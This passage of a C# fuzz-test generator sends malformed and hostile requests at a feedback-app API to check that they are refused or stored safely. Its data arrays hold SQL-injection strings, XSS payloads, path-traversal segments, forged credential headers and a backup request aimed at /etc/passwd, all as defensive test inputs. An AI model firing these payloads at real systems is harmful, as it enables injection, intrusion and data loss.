            "{\"confirm\":\"ERASE\"}", "{\"confirm\":\"ERASE\",\"password\":\"wrong-password-1\"}", "{\"confirm\":\"ERASE\",\"password\":\"\"}",
        };
        var strangers = new[] { Caller.Anonymous, Caller.Integration };
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.7)
                ? Post(EraseMe, "invalid erasure", EraseMe, Utf8(Chance(0.8) ? Pick(invalidErase) : "{\"confirm\":" + S(AnyHostile()) + "}"), Caller.Ravi)
                : Post(EraseMe, "not allowed", EraseMe, Utf8("{\"confirm\":\"ERASE\",\"password\":\"" + Password + "\"}"), Pick(strangers.Append(Caller.Admin).ToArray())));
            requests.Add(Chance(0.6)
                ? Post(AdminErase, "invalid or unknown erasure", $"/api/admin/people/{Guid.NewGuid()}/erase",
                    Utf8(Chance(0.5) ? "{\"confirm\":\"ERASE\"}" : Pick(invalidErase)), Caller.Admin)
                : Post(AdminErase, "not allowed", $"/api/admin/people/{Guid.NewGuid()}/erase", Utf8("{\"confirm\":\"ERASE\"}"),
                    Pick(strangers.Append(Caller.Ravi).ToArray())));
        }

        // Retention: months out of 1..120, unknown modes and wrong types are a 400 for an admin; everyone else is refused.
        var invalidRetention = new[]
        {
            "{\"months\":0}", "{\"months\":121}", "{\"months\":-1}", "{\"months\":12,\"mode\":\"shred\"}", "{\"months\":12,\"mode\":\"\"}",
            "{\"months\":1.5}", "{\"months\":99999999999}", "{\"mode\":\"PURGE\"}", "null", "[]",
        };
        for (var i = 0; i < 8; i++)
        {
            requests.Add(Chance(0.6)
                ? new FuzzRequest(AdminRetention, "invalid retention", HttpMethod.Put, AdminRetention,
                    Utf8(Chance(0.8) ? Pick(invalidRetention) : "{\"months\":12,\"mode\":" + S(AnyHostile()) + "}"), Json, Caller.Admin, [], false)
                : new FuzzRequest(AdminRetention, "not allowed", HttpMethod.Put, AdminRetention, Utf8("{\"months\":1}"), Json,
                    Pick(strangers.Append(Caller.Ravi).ToArray()), [], false));
            requests.Add(Post(AdminRetentionRun, "not allowed", AdminRetentionRun, WrongShapeOrNull(), Pick(strangers.Append(Caller.Ravi).ToArray())));
        }

        // An admin's run under the default setting (keep everything) answers 200 and changes nothing.
        requests.Add(Post(AdminRetentionRun, "admin run with nothing due", AdminRetentionRun, null, Caller.Admin, maySucceed: true));

        // People, departments and API keys: an admin's invalid bodies get a 400, unknown ids a 404 (or the 400 of the body);
        // everyone else is refused.
        var outsiders = new[] { Caller.Anonymous, Caller.Integration, Caller.Ravi };
        var invalidNames = new[] { "{}", "null", "[]", "{\"name\":\"\"}", "{\"name\":\"   \"}", "{\"name\":null}", "{\"name\":1}",
            $"{{\"name\":\"{new string('n', 101)}\"}}" };
        var invalidPeople = new[]
        {
            "{}", "null", "[]", "{\"name\":\"\"}", "{\"name\":\"X\",\"email\":\"not-an-email\"}",
            "{\"name\":\"X\",\"email\":\"x@example.test\",\"roles\":[\"King\"],\"password\":\"long enough password\"}",
            "{\"name\":\"X\",\"email\":\"x@example.test\",\"roles\":[\"Employee\"],\"password\":\"long enough password\"}",
            $"{{\"name\":\"X\",\"email\":\"x@example.test\",\"departmentId\":\"{Guid.NewGuid()}\",\"roles\":[\"Admin\"],\"password\":\"short\"}}",
        };
        var invalidChanges = new[] { "{\"name\":\"\"}", "{\"roles\":[]}", "{\"roles\":[\"Boss\"]}", $"{{\"departmentId\":\"{Guid.NewGuid()}\"}}", "[]" };
        var invalidKeys = new[] { "{}", "null", "{\"name\":\"x\"}", "{\"name\":\"x\",\"scopes\":[\"admin\"]}", "{\"name\":\"\",\"scopes\":[\"wallboard\"]}" };
        for (var i = 0; i < 6; i++)
        {
            requests.Add(Chance(0.6)
                ? Post(People, "invalid person", People, Utf8(Chance(0.7) ? Pick(invalidPeople)
                    : "{\"name\":" + S(AnyHostile()) + ",\"email\":" + S(AnyHostile()) + ",\"roles\":[\"Admin\"]}"), Caller.Admin)
                : Post(People, "not allowed", People, WrongShapeOrNull(), Pick(outsiders)));
            var admin = Chance(0.6);
            requests.Add(new FuzzRequest(Person, admin ? "invalid or unknown person" : "not allowed", HttpMethod.Patch,
                $"/api/admin/people/{Guid.NewGuid()}", Utf8(Pick(invalidChanges)), Json, admin ? Caller.Admin : Pick(outsiders), [], false));
            requests.Add(Post(PersonDisable, Chance(0.5) ? "unknown person" : "not allowed", $"/api/admin/people/{Guid.NewGuid()}/disable",
                null, Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi })));
            requests.Add(Post(PersonEnable, Chance(0.5) ? "unknown person" : "not allowed", $"/api/admin/people/{PathSegment(AnyHostile())}/enable",
                null, Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi })));
            // Unknown or hostile ids only: a real person's code would be issued (harmless, but not a refusal).
            requests.Add(Post(PersonPasswordReset, Chance(0.5) ? "unknown person" : "not allowed",
                $"/api/admin/people/{(Chance(0.5) ? Guid.NewGuid().ToString() : PathSegment(AnyHostile()))}/password-reset",
                WrongShapeOrNull(), Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi })));
            requests.Add(Chance(0.6)
                ? Post(AdminDepartments, "invalid department", AdminDepartments, Utf8(Pick(invalidNames)), Caller.Admin)
                : Post(AdminDepartments, "not allowed", AdminDepartments, WrongShapeOrNull(), Pick(outsiders)));
            requests.Add(new FuzzRequest(AdminDepartment, "invalid or unknown department", HttpMethod.Put,
                $"/api/admin/departments/{Guid.NewGuid()}", Utf8(Chance(0.5) ? Pick(invalidNames) : "{\"name\":\"Ghost\"}"), Json,
                Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
            requests.Add(Chance(0.6)
                ? Post(ApiKeys, "invalid API key", ApiKeys, Utf8(Pick(invalidKeys)), Caller.Admin)
                : Post(ApiKeys, "not allowed", ApiKeys, WrongShapeOrNull(), Pick(outsiders)));
            requests.Add(new FuzzRequest(ApiKey, "unknown key", HttpMethod.Delete, $"/api/admin/api-keys/{Guid.NewGuid()}", null, null,
                Pick(new[] { Caller.Admin, Caller.Anonymous, Caller.Integration, Caller.Ravi }), [], false));
        }

        // An admin backup with a hostile body and query: the body is ignored, the copy is made.
        requests.Add(Post(AdminBackup, "admin with a hostile body", "/api/admin/backup?path=" + Uri.EscapeDataString("/etc/passwd"),
            Utf8("{\"path\":\"/etc/passwd\"}"), Caller.Admin, maySucceed: true));
        return requests;
    }

    private byte[]? WrongShapeOrNull() => Chance(0.2) ? null : WrongShapeBody();

    private FuzzRequest ForTarget(Target t)
    {
        var roll = random.Next(100);
        if (roll < 35)
        {
            return Send(t, "invalid field", Utf8(t.Invalid()), t.Caller);
        }

        if (roll < 55)
        {
            return Send(t, "broken JSON", Utf8(BreakJson(t.Valid())), t.Caller);
        }

        if (roll < 67)
        {
            return Send(t, "wrong shape", WrongShapeBody(), t.Caller,
                contentType: Chance(0.9) ? Json : Pick(new[] { "application/json", "application/problem+json" }));
        }

        if (roll < 77)
        {
            return Send(t, "invalid UTF-8", InvalidUtf8(t.Valid()), t.Caller);
        }

        if (roll < 87)
        {
            return WrongContentType(t);
        }

        return WrongCaller(t);
    }

    private FuzzRequest WrongContentType(Target t)
    {
        var valid = t.Valid();
        var (type, body) = random.Next(15) switch
        {
            0 => ("text/plain", Utf8(valid)),
            1 => ("text/plain; charset=utf-8", Utf8(valid)),
            2 => ("application/x-www-form-urlencoded", Utf8("email=" + Uri.EscapeDataString(Ravi) + "&password=" + Uri.EscapeDataString(Password) + "&type=read")),
            3 => ("multipart/form-data; boundary=xyz", Utf8($"--xyz\r\nContent-Disposition: form-data; name=\"json\"\r\n\r\n{valid}\r\n--xyz--\r\n")),
            4 => ("application/xml", Utf8("<?xml version=\"1.0\"?><item><type>read</type></item>")),
            5 => ((string?)null, Utf8(valid)),
            6 => ("application/octet-stream", Utf8(valid)),
            7 => ("text/json", Utf8(valid)),
            8 => ("application/jsonx", Utf8(valid)),
            9 => ("application/json; charset=klingon", Utf8(valid)),
            10 => ("application/json; charset=utf-16", Utf8(valid)),
            11 => ("application/json; charset=utf-32", Utf8(valid)),
            12 => ("application/json; charset=\"\"", Utf8(valid)),
            13 => ("text/html", Utf8(valid)),
            _ => (Pick(new[] { "json", "application/", "*/*", "application/json, text/plain", ";", "\u0430pplication/json" }), Utf8(valid)),
        };
        return Send(t, "wrong content type", body, t.Caller, type);
    }

    private FuzzRequest WrongCaller(Target t)
    {
        var valid = Utf8(t.Valid());
        if (t.Refused.Count > 0 && Chance(0.5))
        {
            return Send(t, "not allowed", valid, Pick(t.Refused));
        }

        if (t.Route == Login)
        {
            // Look-alike or unknown accounts, also with the right password: never a sign-in, never a failed-attempt count.
            var email = Pick(BadEmails);
            var password = Chance(0.5) ? Password : AnyHostile();
            return Post(t.Route, "look-alike sign-in", t.Url, Utf8($"{{\"email\":{S(email)},\"password\":{S(password)}}}"), Caller.Anonymous);
        }

        var headers = random.Next(4) switch
        {
            0 => [new("X-Api-Key", Pick(BadApiKeys))],
            1 => [new("X-Api-Key", "demo-ingest-key"), new KeyValuePair<string, string>("X-Api-Key", "other")],
            2 => [new("Authorization", Pick(new[] { "Bearer x", "Bearer ' OR 1=1", "Bearer " + new string('A', 10_000), "Basic YWRtaW46YWRtaW4=", "Bearer" }))],
            _ => new List<KeyValuePair<string, string>> { new("X-Api-Key", new string('k', 10_000)) },
        };
        return Send(t, "bad credentials", valid, Caller.Anonymous, headers: headers);
    }

    private static readonly string[] HostileSegments =
    [
        "not-a-guid", "'; DROP TABLE Events;--", "<script>alert(1)</script>", "-1", "99999999999999999999", "1e400", "null", "undefined",
        "\u202eevil", "\uff11\uff12\uff13", new string('x', 10_000), "...", "%", "\u0430",
    ];

    // NUL (%00) in a path cannot even be sent through the test server; Kestrel refuses it before the app sees it.
    private static readonly string[] EncodedSegments = ["..%2F..%2Fadmin", "%2e%2e%2f", "%C3%28", "%E2%80%AE", "%FF%FE", "%u0041"];

    /// <summary>A hostile value as a path segment, without NUL (see above: the test server cannot send it).</summary>
    private static string PathSegment(string value) => Uri.EscapeDataString(value.Replace("\0", "", StringComparison.Ordinal));

    private string HostileSegment() => Chance(0.7) ? Uri.EscapeDataString(Pick(HostileSegments)) : Pick(EncodedSegments);

    private FuzzRequest HostileActionPath()
    {
        var id = targets.Item.ToString();
        var segment = random.Next(6) switch
        {
            0 => HostileSegment(),
            1 => Guid.Empty.ToString(),
            2 => Pick(new[] { "3f2504e0-4f89-41d3-9a0c-0305e82c3301", "00000000-0000-0000-0000-000000000001", "ffffffff-ffff-ffff-ffff-ffffffffffff" }),
            3 => Uri.EscapeDataString(Pick(new[] { id + "0", id[..^1], "\u0430" + id[1..], "g" + id[1..], "{" + id, id + "\u0001" })),
            4 => Uri.EscapeDataString(string.Concat(id.Select(c => char.IsAsciiDigit(c) ? (char)(c - '0' + '\uff10') : c))),
            _ => Uri.EscapeDataString("{3f2504e0-4f89-41d3-9a0c-0305e82c3301}"),
        };
        var body = Chance(0.5) ? Utf8(ValidAction()) : WrongShapeBody();
        return Post(Actions, "hostile id", $"/api/feedback/{segment}/actions", body, Caller.Ravi);
    }

    private FuzzRequest UnknownRoute()
    {
        // POST goes to routes that do not exist; the other methods also to routes that exist for POST or GET only.
        var method = Pick(new[] { HttpMethod.Post, HttpMethod.Put, HttpMethod.Patch, HttpMethod.Delete });
        var url = random.Next(method == HttpMethod.Post ? 3 : 6) switch
        {
            0 => "/api/" + HostileSegment(),
            1 => $"/api/feedback/{targets.Item}/actions/" + HostileSegment(),
            2 => "/api/" + Pick(new[] { "admin", "auth/register", "events/" + NewGuid(), "feedback/batch/x", "users", "api-keys", "scoring/rules" }),
            3 => Pick(new[] { "/api/feedback", "/api/events", "/api/auth/login", "/api/feedback/batch", $"/api/feedback/{targets.Item}" }),
            4 => $"/api/feedback/{targets.Item}/actions",
            _ => "/api/boards/employees",
        };
        var body = Chance(0.5) ? WrongShapeBody() : Utf8(ValidAction());
        var caller = Pick(new[] { Caller.Ravi, Caller.Integration, Caller.Anonymous });
        return new FuzzRequest(ApiFallback, "unknown route or method", method, url, body, Json, caller, []);
    }

    private FuzzRequest HubTransport()
    {
        var (route, url) = random.Next(3) switch
        {
            0 => (HubNegotiate, "/hubs/live/negotiate?negotiateVersion=1"),
            1 => (HubNegotiate, "/hubs/live/negotiate?negotiateVersion=1&access_token=" + Uri.EscapeDataString(AnyHostile())),
            _ => (Hub, "/hubs/live?id=" + HostileSegment()),
        };
        var method = route == Hub && Chance(0.3) ? HttpMethod.Delete : HttpMethod.Post;
        return new FuzzRequest(route, "hub transport", method, url, WrongShapeBody(), Pick(new[] { "text/plain", Json }), Caller.Anonymous, []);
    }

    /// <summary>Bodies over the server's request body limit, one per write route.</summary>
    public IEnumerable<FuzzRequest> Oversized(long limit)
    {
        var body = new byte[limit + 1];
        Array.Fill(body, (byte)' ');
        body[0] = (byte)'{';
        body[^1] = (byte)'}';
        foreach (var t in Targets())
        {
            yield return Send(t, "over the size limit", body, t.Caller) with { ExpectedStatus = PayloadTooLarge };
        }
    }

    // ---------------------------------------------------------------- hostile but valid

    /// <summary>Well-formed feedback whose content is hostile: accepted, stored as plain text.</summary>
    public static IReadOnlyList<(string Text, string Author)> HostileButValidFeedback { get; } =
    [
        ("<script>alert('x')</script>Great app, but it crashes", "<b>kim</b>"),
        ("<img src=x onerror=alert(1)>The delivery was late", "@kim<script>"),
        ("&lt;script&gt;alert(1)&lt;/script&gt; entity-encoded tags", "&lt;b&gt;eve&lt;/b&gt;"),
        ("<scr<script>ipt>alert(1)</script> nested tags", "eve"),
        ("'; DROP TABLE Events;-- the app is slow", "Robert'); DROP TABLE FeedbackItems;--"),
        ("\u202eevil right-to-left override and ze\u200dro wi\u200bdth", "\u0430dmin"),
        ("Fullwidth \uff52\uff45\uff41\uff44 and Cyrillic re\u0430d, emoji \U0001F389", "\uff4b\uff49\uff4d"),
        ("NUL \u0000 and bell \u0007 control characters", "ctl\u0001"),
    ];
}
